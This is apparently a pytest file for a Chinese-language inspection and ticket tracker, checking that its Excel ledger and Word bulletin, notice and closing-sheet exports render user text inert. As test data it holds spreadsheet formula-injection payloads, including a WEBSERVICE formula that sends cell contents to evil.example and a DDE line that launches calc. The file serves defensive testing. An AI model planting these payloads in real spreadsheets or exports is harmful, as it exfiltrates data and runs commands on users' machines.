"""Exports carry what users typed as inert text: no live formula, no character that breaks them.

Rows are stored as typed and history cannot be edited, so the exports themselves must cope.
"""

from __future__ import annotations

import io
from datetime import date

import docx
import pytest
from openpyxl import load_workbook
from sqlmodel import select

from tracker.core.safe_text import cell_value, xml_text
from tracker.inspections.models import Inspection, InspectionUnit
from tracker.org.models import Unit
from tracker.tickets.models import Indicator, Ticket

WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&B2)'
HYPERLINK = '=HYPERLINK("http://evil.example","点此")'
HOSTILE = [
    WEBSERVICE,
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "清理\x1b完毕",
    "名称\x0b后",
    "空\x00字",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_cell_value_is_text_that_no_spreadsheet_evaluates(text: str) -> None:
    value = cell_value(text)
    assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert xml_text(value) == value


def test_numbers_dates_and_plain_text_pass_unchanged() -> None:
    assert cell_value(3.5) == 3.5
    assert cell_value(date(2026, 6, 1)) == date(2026, 6, 1)
    assert cell_value("清理垃圾堆12堆") == "清理垃圾堆12堆"
    assert xml_text("第一行\n第二行\t制表") == "第一行\n第二行\t制表"


@pytest.fixture
def hostile_round(db, county, make_ticket, move):  # type: ignore[no-untyped-def]
    """A round whose findings, comments, indicator names and a unit name carry attacks."""
    town = db.exec(select(Unit).where(Unit.code == "town-a")).one()
    town.name = "@青山乡\x07"
    db.add(town)
    inspection = Inspection(title="=HYPERLINK(\x1b第一轮)", started_on=date(2026, 6, 1))
    db.add(inspection)
    db.commit()
    db.add(InspectionUnit(inspection_id=inspection.id, unit_id=town.id))
    db.commit()
    ticket = make_ticket(title="上庄村垃圾堆", inspection_id=inspection.id)
    # Stored as typed by an older version that let these through: the exports must cope.
    ticket.title = HYPERLINK
    ticket.description = "描述\x1b\x0b" + WEBSERVICE
    ticket.requirement = "-整改\x0c要求"
    db.add(ticket)
    db.commit()
    move(ticket, county.cadre_a, "accept", comment=WEBSERVICE)
    move(
        ticket,
        county.cadre_a,
        "report_completion",
        comment="已清理",
        indicators=[{"name": "清理垃圾堆", "unit": "堆", "achieved": 12}],
    )
    indicator = db.exec(select(Indicator).where(Indicator.ticket_id == ticket.id)).first()
    indicator.name = "清理\x0b垃圾堆"
    db.add(indicator)
    db.commit()
    move(ticket, county.inspector, "verify", comment="=1+1\x1b")
    return inspection


def test_ledger_export_answers_with_every_cell_inert(
    client, county, as_user, hostile_round
) -> None:  # type: ignore[no-untyped-def]
    as_user(county.admin)
    response = client.get("/tickets/export.xlsx?queue=all")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(t.startswith("'" + HYPERLINK) for t in texts)
    assert "'@青山乡" in texts


def test_bulletin_answers_with_the_text_clean(client, county, as_user, hostile_round) -> None:  # type: ignore[no-untyped-def]
    as_user(county.admin)
    page = client.get(f"/bulletin?inspection={hostile_round.id}")
    assert page.status_code == 200
    response = client.get(f"/bulletin.docx?inspection={hostile_round.id}")
    assert response.status_code == 200
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(response.data)).paragraphs)
    assert "清理垃圾堆12堆" in text
    assert "\x0b" not in text and "\x1b" not in text


def test_notice_and_closing_sheet_answer_with_the_text_clean(
    client, db, county, as_user, hostile_round
) -> None:  # type: ignore[no-untyped-def]
    ticket = db.exec(select(Ticket).where(Ticket.inspection_id == hostile_round.id)).one()
    as_user(county.inspector)
    for url in (f"/tickets/{ticket.id}/notice.docx", f"/tickets/{ticket.id}/closing-sheet.docx"):
        response = client.get(url)
        assert response.status_code == 200, url
        document = docx.Document(io.BytesIO(response.data))
        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
        text = "\n".join([p.text for p in document.paragraphs] + cells)
        assert "=HYPERLINK(" in text  # shown as typed, in a Word file where it is only text
        assert not any(ch in text for ch in "\x0b\x1b\x0c\x07")
